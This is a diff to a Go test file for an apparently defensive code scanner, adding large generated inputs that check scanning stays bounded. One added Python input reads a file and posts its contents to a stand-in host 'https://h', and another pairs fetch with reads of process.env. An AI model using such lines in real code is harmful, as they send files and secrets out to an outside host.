@@ -116,6 +116,8 @@ func TestScanIsBounded(t *testing.T) {
 	t.Parallel()
 	for name, tt := range map[string]struct{ lang, src string }{
 		"a text that doubles":      {"python", "import socket\na = 'aaaaaaaaaaaa'\n" + strings.Repeat("a = a + a\n", 10_000)},
+		"destructuring":            {"node", "fetch(u);" + strings.Repeat("const {a, b: {c}} = process.env, [d, e] = [a, c];", 2_000)},
+		"calls of a function":      {"python", "import requests\ndef f(p):\n  requests.post('https://h', data=open(p).read())\n" + strings.Repeat("f('a')\n", 8_000)},
 		"assignments in a row":     {"python", "import socket\n" + strings.Repeat("a=", 24_000) + "socket.socket()"},
 		"a chain of methods":       {"python", "import socket\nx = s" + strings.Repeat(".f(s)", 12_000)},
 		"calls in calls":           {"python", "import socket\n" + strings.Repeat("f(", 20_000)},
@@ -134,6 +136,15 @@ func TestScanIsBounded(t *testing.T) {
 		assert.Less(t, s.visited, 2*maxVisited, name)
 		_ = cut
 	}
+}
+
+// TestScanCountsTexts shows that long texts which are changed count as work, and that
+// a program with too many is said to be read in part.
+func TestScanCountsTexts(t *testing.T) {
+	t.Parallel()
+	p, cut := Parse("python", "import socket\nx='a'\n"+strings.Repeat("x=x.replace('a','aa')\n", 4_000))
+	assert.False(t, cut)
+	assert.True(t, p.Scan(&told{most: 10}))
 }
 
 func FuzzScan(f *testing.F) {
